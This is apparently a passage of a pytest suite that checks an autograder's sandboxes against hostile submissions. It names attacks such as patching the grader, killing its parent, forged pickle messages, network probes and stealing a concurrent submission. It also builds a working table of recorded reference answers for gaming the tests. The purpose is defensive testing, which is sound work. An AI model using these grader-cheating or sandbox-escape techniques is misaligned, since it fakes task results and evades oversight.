_LEFT_IN = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/work", str(ROOT), str(Path.home()),
            *[str(s) for s in _SITE]]


def _left_files(tag: str) -> list[str]:
    return sorted(str(p) for place in _LEFT_IN if Path(place).is_dir() for p in Path(place).glob(f"*{tag}*"))


@contextlib.contextmanager
def _watched(tag: str):
    """Asserts, after the block: the grader's copy unchanged, nothing of `tag` running or left in files."""
    before = _snapshot()
    yield
    assert not _changes(before, _snapshot()), f"the grader's copy changed: {_changes(before, _snapshot())}"
    assert not _running(tag), f"left running: {_running(tag)}"
    assert not _left_files(tag), f"left behind: {_left_files(tag)}"


def _assert_zero(graded: Graded, part) -> None:
    scores = graded.scores(part)
    assert scores and set(scores) == set(exercise_names(part.solutions_path.read_text())), graded.result
    gained = {name: score for name, score in scores.items() if score}
    assert not gained, f"the attack gained points: {gained}\n{graded.summary}"


def _assert_full(graded: Graded, part) -> None:
    scores = graded.scores(part)
    lost = [name for name, score in scores.items() if score != 10]
    assert scores and not lost, f"the honest {part.short} lost points: {lost}\n{graded.summary}"


@pytest.fixture
def reachable_dir():
    """A folder in /tmp that anyone may write to: where a surviving worker could replace the result."""
    folder = Path(tempfile.mkdtemp(prefix="grader-attacks-"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


# --- endless loops: graded in the background while the other cases run (the import loop waits out
#     the part's whole limit, START_UP_SECONDS + 3 s per exercise) ---


@pytest.fixture(scope="module")
def endless(tmp_path_factory):
    """Started by the first case (which asks for it), checked by test_endless_loops_... near the end."""
    if not BWRAP:
        yield None
        return
    tag, folder = _token(), tmp_path_factory.mktemp("endless")
    root = _submission(folder / "submission", {PART0: _attack(tag, LOOP_IN_AN_EXERCISE),
                                                PART1: _attack(tag, MARKER_PROCESS, LOOP_AT_IMPORT, stub=STUB1)})
    out, summary = folder / "result.json", folder / "summary.md"
    command = [sys.executable, "-m", "exercises", "grade", str(root), "--out", str(out), "--summary", str(summary),
               "--parts", PART0.short, PART1.short, "--sandbox", "bwrap", "--time-limit", "3"]
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                               start_new_session=True)
    run = {"tag": tag, "process": process, "out": out, "summary": summary, "started": time.monotonic(),
           "before": _snapshot()}
    yield run
    if process.poll() is None:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


# --- the cases ---


@needs_bwrap
def test_patching_the_machinery_finding_the_reference_and_fake_output_gain_nothing(tmp_path, endless):
    """Kinds 1, 6 and printed output: the patches and prints run in the worker only, which sees no reference.
    (It asks for `endless` only to start that slow run in the background, beside the cases that follow.)"""
    tag = _token()
    text = _attack(tag, PATCH_MACHINERY, FIND_THE_REFERENCE, FAKE_OUTPUT)
    with _watched(tag):
        graded = _grade(_submission(tmp_path / "s", {PART0: text, PART1: "solutions"}), tmp_path)
    _assert_zero(graded, PART0)
    _assert_full(graded, PART1)
    # the import went through and the wrong answers were compared: the patches did not merely crash it
    assert "while being imported" not in graded.summary and "differs from" in graded.summary, graded.summary


@pytest.mark.parametrize("sandbox_kind", SANDBOXES)
def test_writing_the_copy_killing_the_parent_a_daemon_and_lying_objects_gain_nothing(sandbox_kind, tmp_path,
                                                                                      reachable_dir):
    """Kinds 2, 3, 4 and killing the parent, in both sandboxes: every liar is refused, the writes fail,
    the kills hit nothing of the grader's, the daemon dies with the worker; part 1, honest, scores full."""
    tag = _token()
    out, summary = reachable_dir / "result.json", reachable_dir / "summary.md"
    text = _attack(tag, WRITE_THE_COPY, KILL_THE_PARENT, OUTLIVE_THE_RUN, LIARS, OUT=repr(str(out)),
                   SUMMARY=repr(str(summary)))
    with _watched(tag):
        graded = _grade(_submission(tmp_path / "s", {PART0: text, PART1: "solutions"}), reachable_dir,
                        sandbox_kind=sandbox_kind)
        _assert_zero(graded, PART0)
        _assert_full(graded, PART1)
        time.sleep(max(0.0, graded.ended + 4 - time.monotonic()))  # the daemon would have struck by now
        assert out.read_text() == graded.raw, "the result was rewritten"
        assert summary.read_text() == graded.summary, "the summary was rewritten"
    for name in NAMES0:  # each liar reached the grader and was refused (not a crash at import)
        assert "not implemented yet" not in graded.message(PART0, name), graded.summary
    assert "cannot be graded" in graded.message(PART0, "linear_forward"), graded.summary


@pytest.fixture(scope="module")
def recorded_table(tmp_path_factory) -> str:
    """The strongest table of recorded answers: golden.pt's, plus every call of an exercise that part 0's
    tests make at seed 0 (the learners' edition's inputs), answered by the solutions; lzma, base64."""
    folder = tmp_path_factory.mktemp("table")
    (folder / "zz_record_calls.py").write_text(TABLE_KEY + textwrap.dedent(f"""
        import functools, os
        NAMES, RECORDS = {NAMES0!r}, []


        def _plain(value):
            if isinstance(value, _torch.Tensor):
                return value.detach().clone()
            if isinstance(value, (list, tuple)):
                return type(value)(_plain(v) for v in value)
            return value


        def pytest_configure(config):
            import solutions.part0_mnist as module
            for name in NAMES:
                def wrap(fn, name=name):
                    @functools.wraps(fn)
                    def recorded(*args, **kwargs):
                        key = _key(args, kwargs)
                        output = fn(*args, **kwargs)
                        RECORDS.append((name, key, _plain(output)))
                        return output
                    return recorded
                setattr(module, name, wrap(getattr(module, name)))


        def pytest_unconfigure(config):
            _torch.save(RECORDS, os.environ["ZZ_RECORDS"])
        """))
    records = folder / "records.pt"
    env = {**os.environ, "PYTHONPATH": str(folder), "ZZ_RECORDS": str(records)}
    env.pop("MECH_INTERP_TARGET", None)
    done = subprocess.run([sys.executable, "-m", "pytest", str(PART0.tests_path), "--target=solutions",
                           "--reference=solutions", "-p", "zz_record_calls", "-q", "-p", "no:cacheprovider"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    table, seen = [], set()
    for name, key, output in torch.load(records, weights_only=False):  # one entry per distinct question
        if (name, repr(key)) not in seen:
            seen.add((name, repr(key)))
            table.append((name, key, output))
    reader: dict = {}
    exec(TABLE_KEY, reader)
    recorded = torch.load(PART0.tests_path / "golden.pt", weights_only=True)  # the edition's own recordings
    for calls in recorded["calls"].values():
        for call in calls:
            key = reader["_from_golden"](call["inputs"])
            if "output" in call and (call["exercise"], repr(key)) not in seen:
                seen.add((call["exercise"], repr(key)))
                table.append((call["exercise"], key, reader["_decoded"](call["output"])))
    assert {name for name, _, _ in table} == set(NAMES0)
    buffer = io.BytesIO()
    torch.save(table, buffer)
    return base64.b64encode(lzma.compress(buffer.getvalue())).decode()


def _recorded_answers(tag: str, table: str) -> str:
    text = _attack(tag, RECORDED_ANSWERS, KEY=TABLE_KEY, TABLE=table)
    assert len(text) < MAX_FILE_BYTES, f"the attack is {len(text)} bytes, past what the grader accepts"
    return text


@needs_bwrap
def test_the_table_of_recorded_answers_passes_at_seed_0(recorded_table, tmp_path):
    """The control: at the edition's seed (0) the table answers every test: the attack is real."""
    tag = _token()
    text = _recorded_answers(tag, recorded_table)
    with _watched(tag):
        graded = _grade(_submission(tmp_path / "s", {PART0: text}), tmp_path, parts=(PART0,), extra=("--seed", "0"))
    passed = sorted(name for name, score in graded.scores(PART0).items() if score)
    assert passed == sorted(NAMES0), f"at seed 0 the table passes only {passed}\n{graded.summary}"


@needs_bwrap
def test_the_table_of_recorded_answers_gains_nothing_at_the_grading_seed(recorded_table, tmp_path):
    """Kind 5: the grading seed makes every test's inputs new, so no recorded answer fits; every escape
    the attack takes where it has no answer (skip, xfail, exit, SystemExit, ...) is a failure."""
    tag = _token()
    text = _recorded_answers(tag, recorded_table)
    with _watched(tag):
        graded = _grade(_submission(tmp_path / "s", {PART0: text, PART1: "solutions"}), tmp_path)
    _assert_zero(graded, PART0)
    _assert_full(graded, PART1)
    escaped = {"template_similarity": "ended during the call", "mlp_forward": "raised RemoteError"}  # os._exit, SkipTest
    for name in NAMES0:  # each took its escape in its first test, and it counted as a failure
        assert escaped.get(name, "counts as a failure") in graded.message(PART0, name), (name, graded.summary)


@contextlib.contextmanager
def _listening():
    """TCP and UDP on 127.0.0.1, an abstract and a file unix socket: (port, name tag, what they received)."""
    tag, received, stop = _token(), [], threading.Event()
    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tcp.bind(("127.0.0.1", 0))
    port = tcp.getsockname()[1]
    udp.bind(("127.0.0.1", port))
    unix_abstract, unix_file = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    unix_abstract.bind(f"\0zzsock{tag}")
    unix_file.bind(f"/tmp/zzsock{tag}")
    os.chmod(f"/tmp/zzsock{tag}", 0o777)
    for server in (tcp, unix_abstract, unix_file):
        server.listen()
    for server in (tcp, udp, unix_abstract, unix_file):
        server.settimeout(0.1)

    def serve():
        while not stop.is_set():
            for server in (tcp, unix_abstract, unix_file):
                with contextlib.suppress(OSError):
                    connection, _ = server.accept()
                    connection.settimeout(1)
                    received.append(connection.recv(100) or b"<connected>")
            with contextlib.suppress(OSError):
                received.append(udp.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield port, tag, received
    finally:
        stop.set()
        thread.join()
        for server in (tcp, udp, unix_abstract, unix_file):
            server.close()
        os.unlink(f"/tmp/zzsock{tag}")


@pytest.fixture(scope="module")
def wire_run(tmp_path_factory):
    """One run of the network and forged-message attacks (part 0) beside the honest part 1."""
    if not BWRAP:
        pytest.skip("bubblewrap cannot make namespaces here")
    tag, folder = _token(), tmp_path_factory.mktemp("wire")
    before = _snapshot()
    with _listening() as (port, sock, received):
        text = _attack(tag, NETWORK, FORGED_MESSAGES, PORT=port, SOCK=sock)
        graded = _grade(_submission(folder / "s", {PART0: text, PART1: "solutions"}), folder)
        time.sleep(0.3)
    seen = {"changed": _changes(before, _snapshot()), "running": _running(tag), "left": _left_files(tag),
            "received": received, "code ran": Path(f"/tmp/zzatk{tag}-code-ran-in-the-grader").exists()}
    return graded, seen


@needs_bwrap
def test_the_network_and_forged_protocol_messages_gain_nothing(wire_run):
    """Kind 7: no network under bwrap; a forged message is refused (or is a wrong answer) and runs no code
    in the grader (a torch.load with weights_only); too much data is refused before it is read."""
    graded, seen = wire_run
    assert not seen["code ran"], "a forged pickle ran a command in the grader"
    assert not seen["received"], f"the sandboxed worker reached the test's listeners: {seen['received']}"
    assert not seen["changed"] and not seen["running"] and not seen["left"], seen
    _assert_zero(graded, PART0)
    _assert_full(graded, PART1)
    expected = {"class_mean_images": "of 1099511627776 bytes", "cross_entropy": "other than plain data",
                "template_similarity": "other than plain data", "weight_templates": "the worker sent a message of",
                "pixel_attribution": "a tool it was not given", "flip_perturbation": "differs from"}
    for name, words in expected.items():  # (linear_forward and mlp_forward follow a worker that ended: see below)
        assert words in graded.message(PART0, name), (name, graded.summary)


@needs_bwrap
def test_a_worker_that_ends_with_unread_data_is_reported_as_ended(wire_run):
    graded, _ = wire_run
    message = graded.message(PART0, "train_classifier")
    assert "ended" in message and "Error" not in message, message


@needs_bwrap
def test_endless_loops_are_stopped_at_the_time_limits(endless):
    """An endless loop in an exercise fails it; one at import scores its part 0; nothing keeps running."""
    process = endless["process"]
    output = process.communicate(timeout=300)[0]
    took = time.monotonic() - endless["started"]
    assert process.returncode == 0, output
    result, summary = json.loads(endless["out"].read_text()), endless["summary"].read_text()
    graded = Graded(result, summary, output, endless["out"], endless["summary"])
    _assert_zero(graded, PART0)
    _assert_zero(graded, PART1)
    assert "did not finish in time" in graded.message(PART0, "weight_templates"), summary
    assert "stopped after" in graded.message(PART1, "generate_batch"), summary
    limit = getattr(grade, "START_UP_SECONDS", 60) + 3 * len(exercise_names(PART1.solutions_path.read_text()))
    assert took < limit + 60, f"the run took {took:.0f} s for a limit of {limit} s"
    assert not _running(endless["tag"]), _running(endless["tag"])
    assert not _changes(endless["before"], _snapshot()), _changes(endless["before"], _snapshot())


# --- user mode (Gradescope's containers): the weaknesses found, then the honest runs ---


@pytest.fixture(scope="module")
def user_mode_leaks(tmp_path_factory):
    """One user-mode run, the grader started with umask 0: part 0 forges the events file and leaves
    things behind, part 1 reports what it can read of the grader; cleaned up after."""
    if not ROOT_USER:
        pytest.skip("--sandbox user needs root and setpriv")
    tag, folder = _token(), tmp_path_factory.mktemp("leaks")
    shm_before, before = _shm_segments(61000), _snapshot()
    parts = {PART0: _attack(tag, FORGE_THE_EVENTS, LEAVE_THINGS_BEHIND), PART1: _attack(tag, READ_THE_GRADER, stub=STUB1)}
    graded = _grade(_submission(folder / "s", parts), folder, sandbox_kind="user", umask=0)
    left = {"files": _left_files(tag), "shm": sorted(set(_shm_segments(61000)) - set(shm_before)),
            "running": _running(tag), "changed": _changes(before, _snapshot())}
    yield graded, left
    for path in left["files"]:
        with contextlib.suppress(OSError):
            os.unlink(path)
    for segment in left["shm"]:
        subprocess.run(["ipcrm", "-m", segment], capture_output=True)


def _shm_segments(uid: int) -> list[str]:
    """The ids of the System V shared memory segments `uid` owns."""
    table = subprocess.run(["ipcs", "-m"], capture_output=True, text=True).stdout.splitlines()
    return [row.split()[1] for row in table if len(row.split()) > 2 and row.split()[2] == str(uid)]


@needs_root
def test_user_mode_leak_run_left_the_copy_alone_and_nothing_running(user_mode_leaks):
    """The run the three cases below look at: whatever it gained, it changed nothing of the grader's copy,
    nothing of it still runs, and part 1 (a stub that reads) scored 0."""
    graded, left = user_mode_leaks
    assert not left["changed"] and not left["running"], left
    _assert_zero(graded, PART1)


@needs_root
def test_user_mode_worker_cannot_forge_the_events_file(user_mode_leaks):
    graded, _ = user_mode_leaks
    _assert_zero(graded, PART0)


@needs_root
def test_user_mode_worker_cannot_read_the_graders_records(user_mode_leaks):
    graded, _ = user_mode_leaks
    seen = graded.message(PART1, "generate_batch")
    assert "SEEN[" in seen, graded.summary
    assert '"event"' not in seen and "--grade-seed" not in seen, seen


@needs_root
def test_user_mode_leaves_nothing_behind(user_mode_leaks):
    graded, left = user_mode_leaks
    assert not left["running"], left
    assert not left["files"] and not left["shm"], left


@needs_root
def test_user_mode_worker_cannot_copy_a_submission_graded_at_the_same_time(tmp_path):
    tag = _token()
    victim_text = PART0.solutions_path.read_text() + f"\n# victim {tag}\nimport time\ntime.sleep(10)\n"
    victim_root = _submission(tmp_path / "victim", {PART0: victim_text})
    (tmp_path / "v").mkdir()
    victim = subprocess.Popen([sys.executable, "-m", "exercises", "grade", str(victim_root), "--out",
                               str(tmp_path / "v" / "result.json"), "--parts", PART0.short, "--sandbox", "user"],
                              cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                              start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while not any(f"# victim {tag}" in p.read_text() for p in Path("/tmp").glob(
                "grade-*/course/part0_mnist/exercises.py")):
            assert time.monotonic() < deadline and victim.poll() is None, "the victim's grading did not start"
            time.sleep(0.2)
        thief = _grade(_submission(tmp_path / "thief", {PART0: _attack(tag, STEAL_A_CONCURRENT_SUBMISSION)}),
                       tmp_path / "t", parts=(PART0,), sandbox_kind="user")
        output = victim.communicate(timeout=300)[0]
    finally:
        if victim.poll() is None:
            os.killpg(victim.pid, signal.SIGKILL)
            victim.wait()
    _assert_zero(thief, PART0)
    victim_result = json.loads((tmp_path / "v" / "result.json").read_text())
    assert victim_result["score"] == victim_result["max-score"], output


@needs_root
def test_user_mode_stubs_score_zero_and_the_solutions_full_marks_after_every_attack(tmp_path):
    """Last: the honest part 0 after all the attacks above (user mode, Gradescope's format), and the stubs."""
    stubs = _grade(_submission(tmp_path / "stubs", {PART0: "stubs"}), tmp_path / "a", parts=(PART0,),
                   sandbox_kind="user", extra=("--format", "gradescope"))
    _assert_zero(stubs, PART0)
    assert "not implemented yet" in stubs.summary, stubs.summary
    honest = _grade(_submission(tmp_path / "honest", {PART0: "solutions"}), tmp_path / "b", parts=(PART0,),
                    sandbox_kind="user", extra=("--format", "gradescope"))
    _assert_full(honest, PART0)
    assert honest.result["score"] == 10 * len(NAMES0)
